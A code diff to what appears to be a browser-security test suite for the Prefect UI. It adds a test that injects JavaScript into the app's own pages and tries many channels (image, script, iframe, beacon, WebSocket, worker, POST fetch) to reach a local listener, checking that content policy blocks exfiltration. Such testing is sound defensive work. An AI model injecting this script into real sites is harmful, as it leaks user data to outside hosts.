@@ -7,7 +7,7 @@ import threading
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
-from http.server import BaseHTTPRequestHandler, HTTPServer
+from http.server import BaseHTTPRequestHandler, HTTPServer, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -22,7 +22,7 @@ REBOUND = "evil.example"
 PREFECT = "Prefect itself"
 """A guard that we cannot take out: Prefect takes no JSON under a wrong type."""
 
-HOSTS, ORIGIN, FRAMES = "KnownHosts", "SameOrigin", "NeverFramed"
+HOSTS, ORIGIN, FRAMES, CONTENT = "KnownHosts", "SameOrigin", "NeverFramed", "OnlyOwnContent"
 
 
 @dataclass(frozen=True)
@@ -82,6 +82,14 @@ def foreign(context: BrowserContext, ours: Ours) -> Iterator[Page]:
     with stranger() as address:
         page = context.new_page()
         page.goto(address)
+        yield page
+
+
+def own(context: BrowserContext, ours: Ours) -> Iterator[Page]:
+    """A page of our own, into which something foreign has slipped."""
+    for path in ("/artifacts", "/v2/artifacts"):
+        page = context.new_page()
+        page.goto(f"{ours.place.ui}{path}")
         yield page
 
 
@@ -240,7 +248,43 @@ def frames_the_ui(page: Page, ours: Ours) -> bool:
         ours.place.ui,
     )
     (_, frame) = page.frames
-    return frame.locator("#app").count() == 1
+    return frame.locator("#app, #root").count() == 1
+
+
+CALLS = """async address => {
+    const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
+    add("img", {src: address + "img"});
+    add("script", {src: address + "script"});
+    add("link", {rel: "stylesheet", href: address + "style"});
+    add("iframe", {src: address + "iframe"});
+    add("object", {data: address + "object"});
+    add("video", {src: address + "video"});
+    document.body.style.backgroundImage = `url(${address}background)`;
+    navigator.sendBeacon(address + "beacon", "names");
+    try { new WebSocket(address.replace("http", "ws") + "socket"); } catch {}
+    try { new Worker(address + "worker"); } catch {}
+    await fetch(address + "fetch", {mode: "no-cors", method: "POST", body: "names"}).catch(() => 0);
+    await new Promise(done => setTimeout(done, 1000));
+}"""
+
+
+def calls_home(page: Page, ours: Ours) -> bool:
+    """Have the page ask a stranger, in every way there is; return whether the stranger was asked."""
+    asked: list[str] = []
+
+    class Ear(_Blank):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            super().do_GET()
+
+        def do_POST(self) -> None:
+            self.do_GET()
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Ear) as server:
+        threading.Thread(target=server.serve_forever, args=[0.02], daemon=True).start()
+        page.evaluate(CALLS, f"http://127.0.0.1:{server.server_port}/")
+        server.shutdown()
+    return bool(asked)
 
 
 Attack = Callable[[Page, Ours], bool]
@@ -262,6 +306,7 @@ ATTACKS: list[tuple[Visit, Attack, set[str]]] = [
     (foreign, listens_to_events, {ORIGIN}),
     (foreign, listens_to_logs, {ORIGIN}),
     (foreign, frames_the_ui, {FRAMES}),
+    (own, calls_home, {CONTENT}),
     (rebound, reads_a_page, {HOSTS}),
     (rebound, filters_pages, {HOSTS, ORIGIN}),
     (rebound, deploys_code, {HOSTS, ORIGIN}),
